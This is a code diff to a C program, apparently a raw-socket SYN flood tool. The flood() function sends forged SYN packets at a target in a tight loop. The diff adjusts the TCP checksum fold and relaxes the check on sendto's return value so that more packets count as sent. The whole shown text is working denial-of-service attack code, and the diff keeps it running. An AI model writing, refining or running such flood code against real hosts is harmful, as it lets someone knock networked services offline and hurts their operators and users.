@@ -60,7 +60,8 @@ static uint16_t checksum(const struct pseudo *pseudo)
         sum += words[i];
     }
     sum = (sum & 0xffff) + (sum >> 16);
-    return (uint16_t) ~(sum + (sum >> 16));
+    sum += sum >> 16;
+    return (uint16_t)(~sum);
 }
 
 /* The kernel fills in the rest of the IP header: its length and its checksum (raw(7)). */
@@ -108,9 +109,10 @@ static int flood(int fd, const struct sockaddr_in *target)
     for (uint64_t say_us = 0; !is_over();) {
         for (int i = 0; i < SYNS_A_LOOK; i++) {
             struct syn syn = make_syn(&random, target);
+            ssize_t len =
+                sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)target, sizeof(*target));
 
-            if (sendto(fd, &syn, sizeof(syn), 0, (const struct sockaddr *)target,
-                       sizeof(*target)) == (ssize_t)sizeof(syn)) {
+            if (len >= 0) { /* a raw socket takes all of it, or nothing */
                 sent++;
             } else if (errno != ENOBUFS && errno != EAGAIN) {
                 perror("synflood: sendto");
